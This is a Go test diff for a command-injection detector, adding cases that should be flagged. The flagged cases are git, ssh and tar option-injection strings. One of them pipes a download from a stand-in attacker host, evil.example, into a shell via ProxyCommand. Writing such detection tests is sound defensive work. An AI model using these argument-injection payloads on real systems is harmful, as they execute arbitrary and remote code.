@@ -44,3 +44,12 @@ func TestGlobbedPath(t *testing.T) {
 		}
 	}
 }
+
+func TestCmdIOptionCommand(t *testing.T) {
+	checkCmdI(t, []cmdiCase{
+		{"clone it from --upload-pack='id>/tmp/x' git://host/r", true},
+		{"my ssh host is -oProxyCommand=\"curl evil.example|sh\" box", true},
+		{"tar --checkpoint=1 --checkpoint-action=exec=sh shell.sh", true},
+		{"what does --upload-pack=git-upload-pack do when I set it explicitly?", false},
+	})
+}
